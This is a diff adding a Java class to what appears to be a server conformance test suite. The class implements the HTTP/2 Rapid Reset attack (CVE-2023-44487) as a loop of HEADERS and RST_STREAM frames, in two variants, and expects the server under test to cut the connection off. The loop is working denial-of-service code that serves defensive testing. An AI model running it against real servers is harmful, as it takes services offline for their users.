@@ -1,0 +1,45 @@
+package dev.gannet.conformance.gauntlet.attack;
+
+import dev.gannet.conformance.gauntlet.attack.Dossier.Fate;
+import dev.gannet.conformance.gauntlet.wire.Frames;
+import dev.gannet.conformance.gauntlet.wire.Messages;
+import dev.gannet.conformance.gauntlet.wire.RawConnection;
+import dev.gannet.conformance.gauntlet.wire.Requests;
+import java.io.IOException;
+
+/** Calls that are taken back as soon as they were made, in a loop (CVE-2023-44487). */
+enum RapidReset implements Attack {
+  /** Before the request is whole. */
+  HEADERS_ALONE("rapid-reset"),
+  /** Behind the whole request, when its handler has been started. */
+  WHOLE_CALLS("rapid-reset-whole");
+
+  private final String name;
+
+  RapidReset(String name) {
+    this.name = name;
+  }
+
+  @Override
+  public Dossier dossier() {
+    return new Dossier(
+            name,
+            "RFC 9113 §10.5",
+            Fate.CUT_OFF,
+            "counts resets, and gives a stream's place free only when its handler is back")
+        .published("2023-44487");
+  }
+
+  @Override
+  public void attack(Front front) throws IOException {
+    RawConnection connection = front.connect();
+    Requests requests = Requests.to(Requests.UNARY);
+    for (int id = 1; front.goesOn(connection); id += 2) {
+      connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
+      if (this == WHOLE_CALLS) {
+        connection.send(Frames.data(id, Frames.END_STREAM, Messages.empty()));
+      }
+      connection.send(Frames.rstStream(id));
+    }
+  }
+}
